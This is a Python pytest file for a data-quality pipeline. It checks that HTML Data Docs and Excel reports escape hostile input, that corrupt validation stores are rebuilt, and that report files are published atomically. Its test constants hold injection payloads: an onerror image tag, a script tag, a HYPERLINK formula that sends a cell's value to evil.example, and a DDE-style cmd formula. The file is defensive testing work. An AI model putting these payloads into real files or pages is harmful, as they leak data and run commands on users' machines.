"""Hostile deliveries never become markup, scripts or formulas; Data Docs work offline; GX
stores survive empty or corrupt files; a report's two files are published as one.

The hostile corpus: a file named like an HTML tag with an ``onerror`` handler, cells and
notes holding ``<script>``, and spreadsheet formulas (``=HYPERLINK(...)`` and the other
OWASP first characters).  Real ingest, real GX checks (Dagster materialise), the real
report writers; every HTML page is parsed, every workbook cell read back with openpyxl.
"""

from __future__ import annotations

import dataclasses
import json
import subprocess
import sys
import time
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pytest

from expectations.feed_suites import validate_ledger
from ingest.feeds import FEEDS
from report import build_report, write_report
from report.publish import BUILDS, publish_folder
from tests.conftest import IDVA_HEADER, IDVA_ROWS, csv_text
from tests.test_dbt_marts import DBT, REPO, dbt_env, sample_build
from tests.test_expectations import evaluations, materialize

HOSTILE_FILE = "<img src=x onerror=alert('x')>.csv"
SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'
FORMULAS = (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")
T0 = time.time() - 86_400


@pytest.fixture(autouse=True)
def _environment(monkeypatch):
    monkeypatch.setenv("CSP_PSEUDONYM_KEY", "test-key")
    monkeypatch.delenv("CSP_VOLUME_TOLERANCE", raising=False)


class PageScan(HTMLParser):
    """What a browser would run or fetch: event handlers, scripts, external addresses."""

    URL_ATTRIBUTES = ("src", "href", "action", "formaction", "data", "poster", "srcset")

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.injected: list[str] = []
        self.external: list[str] = []
        self.text: list[str] = []
        self._in: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name.startswith("on"):
                self.injected.append(f"<{tag} {name}={value!r}>")
            if name in self.URL_ATTRIBUTES and value and _is_external(value):
                self.external.append(f"<{tag} {name}={value!r}>")
            if name == "style" and value and "url(" in value and "http" in value:
                self.external.append(f"<{tag} style={value!r}>")
        if tag in ("img", "iframe", "object", "embed") and dict(attrs).get("src") == "x":
            self.injected.append(f"<{tag}> from data")
        self._in = tag if tag in ("script", "style") else None

    def handle_endtag(self, tag: str) -> None:
        self._in = None

    def handle_data(self, data: str) -> None:
        if self._in == "script" and "alert(" in data:
            self.injected.append(f"script: {data.strip()[:80]}")
        elif self._in == "style" and "url(" in data and "http" in data.split("url(", 1)[1]:
            self.external.append(f"style: {data.strip()[:80]}")
        else:
            self.text.append(data)


def _is_external(value: str) -> bool:
    value = value.strip().lower()
    return value.startswith(("http://", "https://", "//"))


def scan(path: Path) -> PageScan:
    page = PageScan()
    page.feed(path.read_text(encoding="utf-8"))
    page.close()
    return page


def scan_all(folder: Path) -> dict[str, PageScan]:
    pages = {str(p.relative_to(folder)): scan(p) for p in sorted(folder.rglob("*.html"))}
    assert pages, f"no HTML under {folder}"
    return pages


# -- GX Data Docs --------------------------------------------------------------------------


def hostile_deliveries(deliver) -> None:
    rows = [*IDVA_ROWS, f"R004,06/10/2016,CL-0004,high,worked_with,{SCRIPT},Y"]
    deliver(f"idva_referrals/{HOSTILE_FILE}", csv_text(IDVA_HEADER, rows), mtime=T0)


def build_rejected_deliveries_view(settings) -> None:
    """dbt builds the view the rejected_files check reads (and its seed) on the test's
    warehouse, as the nightly job does after ingest."""
    root = Path(settings.warehouse).parent
    command = [DBT, "build", "--select", "+int_ingest__rejected_deliveries"]
    command += ["--resource-type", "seed", "--resource-type", "model"]
    command += ["--project-dir", str(REPO), "--profiles-dir", str(REPO)]
    command += ["--target-path", str(root / "target"), "--log-path", str(root / "logs")]
    done = subprocess.run(
        command,
        cwd=REPO,
        # the deliveries arrived "yesterday": as of today, so they count
        env=dbt_env(Path(settings.warehouse)) | {"CSP_AS_OF": date.today().isoformat()},
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert done.returncode == 0, done.stdout[-4000:]


def test_hostile_file_names_and_cells_are_text_in_data_docs_and_nothing_is_fetched(
    settings, deliver
):
    hostile_deliveries(deliver)
    result = materialize(settings)
    # a rejected file costs only its own series: the contract over the loaded rows holds,
    # the rejected_files check (the ledger suite, over the dbt view) lists the file
    assert evaluations(result)[("idva_referrals", "contract")].passed
    build_rejected_deliveries_view(settings)
    ledger_report = validate_ledger(settings, FEEDS["idva_referrals"])
    assert [r.delivery.file_name for r in ledger_report.outstanding] == [
        f"idva_referrals/{HOSTILE_FILE}"
    ]
    docs = Path(settings.warehouse).parent / "gx_data_docs"
    pages = scan_all(docs)
    ledger = [name for name in pages if "/ledger/" in name and name.startswith("validations")]
    assert ledger, sorted(pages)
    for name, page in pages.items():
        assert page.injected == [], name
        assert page.external == [], name
    # the hostile texts are shown, as text: escaped, not dropped
    ledger_text = "".join(pages[ledger[0]].text)
    assert HOSTILE_FILE in ledger_text
    assert SCRIPT in ledger_text


@pytest.mark.faults
def test_corrupt_or_empty_gx_store_files_are_rebuilt_from_code(settings, deliver):
    deliver("idva_referrals/q3.csv", csv_text(IDVA_HEADER, IDVA_ROWS), mtime=T0)
    assert materialize(settings).success
    store = Path(settings.warehouse).parent / "gx"
    suites = sorted((store / "expectations").rglob("*.json"))
    results = sorted((store / "validations").rglob("*.json"))
    assert len(suites) >= 2 and results  # contract and volume (the ledger suite: rejected_files)
    for path in suites[1:]:
        path.write_bytes(b"")  # what a full disk left behind
    suites[0].write_text('{"name": "feed.idva_referr')  # cut mid-write
    results[0].write_text("garbage")
    (store / "expectations" / ".ge_store_backend_id").write_bytes(b"")
    again = materialize(settings)
    assert again.success, [c.description for c in evaluations(again).values()]
    assert all(c.passed for k, c in evaluations(again).items() if k[1] == "contract")
    for path in suites:
        assert isinstance(json.loads(path.read_text()), dict), path
    assert not list(store.rglob("*.tmp"))


# -- the report ----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory):
    build = sample_build(tmp_path_factory)
    data = build_report(build.warehouse, "2016/17", 4)
    assert len(data.missing) >= len(FORMULAS) + 1
    missing = data.missing.copy()
    notes = [SCRIPT, *FORMULAS]
    missing.loc[missing.index[: len(notes)], "note"] = notes
    text_columns = [c for c in missing.columns if c not in ("note",) and missing[c].dtype == object]
    if text_columns:
        missing.loc[missing.index[0], text_columns[0]] = f"{FORMULA}{SCRIPT}"
    series = data.series.copy()
    for column in ("title", "owner"):
        if column in series.columns:
            series.loc[series.index[0], column] = f"{SCRIPT}{HOSTILE_FILE}"
    hostile = dataclasses.replace(
        data, area_name=f"{FORMULA} {SCRIPT}", missing=missing, series=series
    )
    files = write_report(hostile, tmp_path_factory.mktemp("hostile"))
    return hostile, files


def test_hostile_notes_and_names_are_text_in_the_html_report(hostile_report):
    _, files = hostile_report
    page = scan(files.html)
    assert page.injected == []
    assert page.external == []
    text = "".join(page.text)
    assert SCRIPT in text and FORMULA in text  # shown as text, not dropped


def test_no_workbook_cell_is_a_formula(hostile_report):
    _, files = hostile_report
    workbook = openpyxl.load_workbook(files.xlsx)
    texts, negatives = [], 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), (
                        sheet.title,
                        cell.coordinate,
                        cell.value,
                    )
                    texts.append(cell.value)
                elif isinstance(cell.value, int | float) and cell.value < 0:
                    negatives += 1
    for formula in FORMULAS:  # kept, as text (XML stores a carriage return as a line feed)
        assert "'" + formula.replace("\r", "\n") in texts, repr(formula)
    assert negatives > 0  # negative figures are still numbers


# -- publishing the report's files as one --------------------------------------------------


def _write_pair(version: str):
    def write(build: Path) -> None:
        (build / "r.html").write_text(version)
        (build / "r.xlsx").write_text(version)

    return write


def _pair(folder: Path) -> tuple[str, str]:
    return (folder / "r.html").read_text(), (folder / "r.xlsx").read_text()


KILLED_MID_PUBLISH = """
import os, signal, sys
from pathlib import Path
from report.publish import publish_folder

def write(build):
    (build / "r.html").write_text("v2")
    os.kill(os.getpid(), signal.SIGKILL)  # between the two files

publish_folder(Path(sys.argv[1]), write)
"""


@pytest.mark.faults
def test_a_kill_between_the_two_files_leaves_the_previous_pair(tmp_path):
    folder = tmp_path / "reports" / "2016-17-Q4"
    publish_folder(folder, _write_pair("v1"))
    assert _pair(folder) == ("v1", "v1") and folder.is_symlink()
    killed = subprocess.run(
        [sys.executable, "-c", KILLED_MID_PUBLISH, str(folder)],
        cwd=Path(__file__).parents[1],
        check=False,
    )
    assert killed.returncode == -9
    assert _pair(folder) == ("v1", "v1")
    publish_folder(folder, _write_pair("v3"))
    assert _pair(folder) == ("v3", "v3")
    builds = [p.name for p in (folder.parent / BUILDS).iterdir()]
    assert len([b for b in builds if not b.endswith(".partial")]) == 1  # old builds pruned


@pytest.mark.faults
def test_a_failed_write_publishes_nothing_and_other_areas_are_kept(tmp_path):
    folder = tmp_path / "reports" / "2016-17-Q4"
    folder.mkdir(parents=True)
    (folder / "r.html").write_text("old")  # a folder written before links were used
    (folder / "r.xlsx").write_text("old")

    def other_area(build: Path) -> None:
        (build / "r-E06000005.html").write_text("area 2")

    publish_folder(folder, other_area)
    assert _pair(folder) == ("old", "old") and folder.is_symlink()

    def failing(build: Path) -> None:
        (build / "r.html").write_text("half")
        raise OSError(28, "No space left on device")

    with pytest.raises(OSError, match="No space"):
        publish_folder(folder, failing)
    assert _pair(folder) == ("old", "old")
    assert not [p for p in (folder.parent / BUILDS).iterdir() if p.name.endswith(".partial")]
    publish_folder(folder, _write_pair("new"))
    assert _pair(folder) == ("new", "new")
    assert (folder / "r-E06000005.html").read_text() == "area 2"
